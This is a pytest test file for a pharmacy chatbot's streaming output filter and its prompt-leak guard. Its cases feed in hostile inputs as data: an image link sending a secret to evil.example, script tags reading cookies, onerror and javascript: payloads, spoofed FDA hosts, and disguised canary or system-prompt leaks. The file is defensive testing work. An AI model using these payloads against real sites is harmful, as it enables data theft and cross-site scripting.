"""The streaming output filter: no images, no HTML, links only to DailyMed and FDA, at any split."""

from __future__ import annotations

import itertools

import pytest

from pharmabot.answer.output_filter import MAX_PENDING, OutputFilter, PromptLeakGuard, allowed_url, filter_text
from pharmabot.answer.prompts import SYSTEM_PROMPT
from pharmabot.errors import AnswerWithheldError

DAILYMED = "https://dailymed.nlm.nih.gov/dailymed/lookup.cfm?setid=1e6f5c0a-1111"

CASES = [
    ("Plain text with a citation [1] and [2][3].", "Plain text with a citation [1] and [2][3]."),
    ("CrCl < 30 mL/min: 5 mg; children <12 years.", "CrCl < 30 mL/min: 5 mg; children <12 years."),
    ("See ![chart](https://evil.example/leak.png?q=secret) here", "See  here"),
    ("Ref image ![x][1] gone", "Ref image  gone"),
    ("<script>alert(document.cookie)</script>Take with food [1].", "alert(document.cookie)Take with food [1]."),
    ('a <img src=x onerror="alert(1)"> b', "a  b"),
    ('<a href="https://evil.example">click</a> now', "click now"),
    ("<!-- hidden --> visible", " visible"),
    ("[click here](javascript:alert(1)) please", "click here please"),
    ("[site](https://evil.example/path) text", "site text"),
    ("[a [1] b](https://evil.example)", "a [1] b"),
    ('[t](https://evil.example "title")', "t"),
    (f"[DailyMed label]({DAILYMED}) [1]", f"[DailyMed label]({DAILYMED}) [1]"),
    ("[FDA](https://www.fda.gov/drugs/drug-safety) ok", "[FDA](https://www.fda.gov/drugs/drug-safety) ok"),
    ("[FDA](https://accessdata.fda.gov/x)", "[FDA](https://accessdata.fda.gov/x)"),
    ("Go to https://evil.example/x. Now", "Go to . Now"),
    (f"Label: {DAILYMED}.", f"Label: {DAILYMED}."),
    ("see www.evil.example and www.fda.gov/x", "see  and www.fda.gov/x"),
    ("fake https://dailymed.nlm.nih.gov@evil.example/ end", "fake  end"),
    ("fake https://fda.gov.evil.example/ end", "fake  end"),
    ("fake https://evilfda.gov/ end", "fake  end"),
    ("fake https://evil.example\\@www.fda.gov/ end", "fake  end"),
    ("<https://www.fda.gov/safety>", "https://www.fda.gov/safety"),
    ("<https://evil.example/safety>", ""),
    ("HTTPS://EVIL.EXAMPLE/A b", " b"),
    ("_https://evil.example_", "__"),
    ("The hour, the whole world, wow!", "The hour, the whole world, wow!"),
    ("Trailing bracket [", "Trailing bracket ["),
    ("Trailing bang!", "Trailing bang!"),
    ("Unclosed [text](https://evil", "Unclosed [text]("),  # never a link; the bare URL still goes
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_filters_whole_text(text: str, expected: str) -> None:
    assert filter_text(text) == expected


def feed_in_pieces(text: str, cuts: list[int]) -> tuple[str, list[str]]:
    output_filter = OutputFilter()
    bounds = [0, *cuts, len(text)]
    released = [output_filter.feed(text[a:b]) for a, b in itertools.pairwise(bounds)]
    released.append(output_filter.flush())
    return "".join(released), released


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_same_result_at_every_split_point(text: str, expected: str) -> None:
    """Property-style: one cut at every position, two cuts at every pair, and one character at a time."""
    for cut in range(len(text) + 1):
        assert feed_in_pieces(text, [cut])[0] == expected, cut
    for first in range(len(text) + 1):
        for second in range(first, len(text) + 1, 3):
            assert feed_in_pieces(text, [first, second])[0] == expected, (first, second)
    assert feed_in_pieces(text, list(range(1, len(text))))[0] == expected


def test_nothing_dangerous_survives_a_mixed_answer_token_by_token() -> None:
    answer = (
        "Simvastatin with clarithromycin is contraindicated [1]. ![x](https://evil.example/p.png) "
        "<img src=x onerror=alert(1)> <script>steal()</script> [more](javascript:alert(1)) "
        f"https://evil.example/phish [DailyMed]({DAILYMED}) <iframe src=//evil.example></iframe>"
    )
    text, _ = feed_in_pieces(answer, list(range(1, len(answer))))
    lowered = text.lower()
    for bad in ("![", "<img", "<script", "<iframe", "javascript:", "evil.example", "onerror"):
        assert bad not in lowered
    assert f"[DailyMed]({DAILYMED})" in text
    assert "contraindicated [1]." in text


def test_plain_text_streams_without_delay() -> None:
    output_filter = OutputFilter()
    assert output_filter.feed("Take it with food. ") == "Take it with food. "
    assert output_filter.feed("Citation [1") == "Citation "  # "[1" could still open a link
    assert output_filter.feed("] then") == "[1] then"
    assert output_filter.feed(" more") == " more"
    assert output_filter.flush() == ""


def test_urls_are_held_only_until_they_end() -> None:
    output_filter = OutputFilter()
    assert output_filter.feed("see https://www.fd") == "see "
    assert output_filter.feed("a.gov/x") == ""
    assert output_filter.feed(" today") == "https://www.fda.gov/x today"


def test_runaway_constructs_do_not_stall_the_stream() -> None:
    """An opening `[` or `<` with no end in sight is dropped after MAX_PENDING characters, and text flows on."""
    for opener in ("[", "<b", "![", "https://evil.example/"):
        output_filter = OutputFilter()
        released = output_filter.feed(opener + "a" * (MAX_PENDING + 10))
        assert len(released) >= 10
        assert opener not in released
        released += output_filter.feed("](javascript:alert(1)) tail") + output_filter.flush()
        assert "[" not in released  # the opener is gone, so the late "](...)" cannot form a link
        assert released.endswith(" tail")


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        (DAILYMED, True),
        ("http://dailymed.nlm.nih.gov/x", True),
        ("https://www.fda.gov/drugs", True),
        ("https://fda.gov", True),
        ("https://WWW.FDA.GOV/x", True),
        ("www.fda.gov/x", True),
        ("https://fda.gov.evil.example", False),
        ("https://notfda.gov", False),
        ("https://dailymed.nlm.nih.gov.evil.example", False),
        ("https://user@www.fda.gov", False),
        ("https://www.fda.gov:8443/x", False),
        ("javascript:alert(1)", False),
        ("data:text/html,hi", False),
        ("//www.fda.gov/x", False),
        ("ftp://www.fda.gov/x", False),
        ("https://www.fda.gov%2eevil.example/", False),
    ],
)
def test_allowed_url(url: str, allowed: bool) -> None:
    assert allowed_url(url) is allowed


# --- prompt leaks (a model writer's canary and rules) ---------------------------------------------------

CANARY = "pbc-0123456789abcdef"


def _guarded() -> OutputFilter:
    return OutputFilter(leak_guard=PromptLeakGuard(canary=CANARY, prompt=SYSTEM_PROMPT))


def _stream(output_filter: OutputFilter, pieces: list[str]) -> str:
    released = [output_filter.feed(piece) for piece in pieces]
    released.append(output_filter.flush())
    return "".join(released)


@pytest.mark.parametrize("cut", range(1, len(CANARY)))
def test_the_canary_is_stopped_at_any_split_and_never_released_whole(cut: int) -> None:
    output_filter = _guarded()
    text = f"Metformin treats type 2 diabetes [1]. {CANARY} more"
    split = text.index(CANARY) + cut
    released = output_filter.feed(text[:split])
    with pytest.raises(AnswerWithheldError) as info:
        released += output_filter.feed(text[split:])
    assert info.value.code == "answer_withheld"
    assert info.value.details == {"reason": "prompt_leak_canary"}
    assert released.startswith("Metformin treats type 2 diabetes [1].")
    assert CANARY not in released


@pytest.mark.parametrize("disguise", [CANARY.upper(), " ".join(CANARY), CANARY.replace("-", "_")])
def test_a_disguised_canary_is_stopped(disguise: str) -> None:
    with pytest.raises(AnswerWithheldError):
        _stream(_guarded(), ["The marker: ", disguise[:7], disguise[7:], "."])


def test_repeating_the_rules_is_stopped_even_a_word_at_a_time() -> None:
    words = SYSTEM_PROMPT[SYSTEM_PROMPT.index("Never give") :].split(" ")[:20]
    with pytest.raises(AnswerWithheldError) as info:
        _stream(_guarded(), ["Here you go: ", *(w + " " for w in words)])
    assert info.value.details == {"reason": "prompt_leak_instructions"}


@pytest.mark.parametrize(
    "answer",
    [
        "Take it as the label says [1], and confirm your own dose with your prescriber or pharmacist.",
        "Please confirm their own dose with their prescriber or pharmacist before any change [2].",
        "No interaction was found in these sources: the FDA labels and the ONC lists. That does not mean it is safe.",
        "Do not stop, skip or change a medicine without talking to your prescriber or pharmacist first.",
        "The label's code pbc is not a marker; upbeat pbc- words pass.",
    ],
)
def test_ordinary_answers_pass_whole_and_in_order(answer: str) -> None:
    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]
    assert _stream(_guarded(), pieces) == answer


def test_a_tail_that_could_start_the_canary_waits_for_the_next_delta() -> None:
    output_filter = _guarded()
    assert output_filter.feed("Take it with food p") == "Take it with food "
    assert output_filter.feed("lus water.") == "plus water."
    assert output_filter.flush() == ""
